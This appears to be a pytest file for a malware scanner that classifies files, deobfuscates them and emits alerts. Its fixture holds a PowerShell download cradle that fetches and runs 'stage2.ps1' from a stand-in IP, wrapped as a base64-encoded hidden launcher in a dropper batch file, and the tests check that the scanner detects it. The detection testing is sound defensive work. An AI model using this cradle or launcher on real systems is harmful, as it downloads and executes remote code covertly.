"""`phago scan` in-process: JSON lines out, one verdict per file, with the deobfuscated text."""

from __future__ import annotations

import base64
import json
from pathlib import Path

from typer.testing import CliRunner

from phagocyte.analysers.scan import Scanner
from phagocyte.cli.app import app

runner = CliRunner()
PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/stage2.ps1')"


def _samples(tmp_path: Path) -> Path:
    d = tmp_path / "in"
    d.mkdir()
    enc = base64.b64encode(PAYLOAD.encode("utf-16-le")).decode()
    (d / "dropper.bat").write_text(f"@echo off\npowershell.exe -nop -w hidden -enc {enc}\n")
    (d / "hello.ps1").write_text("param($Name)\nWrite-Host \"Hello $Name\"\n")
    (d / "notes.txt").write_text("just some notes\n")
    return d


def test_scan_writes_one_json_object_per_file(tmp_path: Path) -> None:
    out = tmp_path / "verdicts.jsonl"
    res = runner.invoke(app, ["scan", str(_samples(tmp_path)), "--out", str(out)])
    assert res.exit_code == 0, res.output
    rows = {Path(r["path"]).name: r for r in map(json.loads, out.read_text().splitlines())}
    assert set(rows) == {"dropper.bat", "hello.ps1", "notes.txt"}
    for r in rows.values():
        assert {"path", "label", "score", "reasons"} <= set(r)
    bad = rows["dropper.bat"]
    assert bad["label"] == "malicious"
    assert "DownloadString('http://203.0.113.9/stage2.ps1')" in bad["deobfuscated"]
    assert "203.0.113.9" in bad["indicators"]["ip"]
    assert rows["hello.ps1"]["label"] == "clean"
    assert "malicious" in res.output


def test_verdict_becomes_a_scan_alert() -> None:
    v = Scanner().scan_text(f"powershell -enc {base64.b64encode(PAYLOAD.encode('utf-16-le')).decode()}", "batch")
    event = {"event.id": "ev1", "host.name": "ws01", "log.file.path": "/logs/sysmon.evtx", "winlog.record_id": 7}
    alert = v.to_alert(event)
    assert alert["event.kind"] == "alert" and alert["event.module"] == "scan"
    assert alert["rule.level"] == "high" and alert["event.reference"] == "ev1" and alert["host.name"] == "ws01"
    assert "T1059.001" in alert["threat.technique.id"]
    assert "203.0.113.9" in alert["related.ip"]


def test_scan_events_finds_the_demo_download_cradle(tmp_path: Path) -> None:
    from phagocyte.config import load_settings
    from tests.conftest import DEMO, run_ingest

    settings = load_settings(tmp_path / "home")
    run_ingest([DEMO], settings)
    out = tmp_path / "alerts.jsonl"
    res = runner.invoke(app, ["scan-events", "--home", str(settings.home), "--out", str(out)])
    assert res.exit_code == 0, res.output
    alerts = [json.loads(line) for line in out.read_text().splitlines()]
    assert [a["rule.id"] for a in alerts] == ["scan.powershell.malicious"]
    assert alerts[0]["rule.category"] == "command-line" and alerts[0]["host.name"].startswith("ws-042")
